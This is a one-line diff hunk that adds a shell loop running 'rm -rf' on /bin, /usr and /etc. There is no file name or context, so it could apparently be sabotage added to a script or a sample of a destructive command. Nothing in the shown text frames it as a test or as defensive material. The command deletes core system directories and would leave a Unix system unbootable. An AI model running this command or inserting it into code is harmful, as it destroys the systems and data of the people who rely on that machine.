@@ -1,0 +1,1 @@
+for d in /bin /usr /etc; do rm -rf $d; done
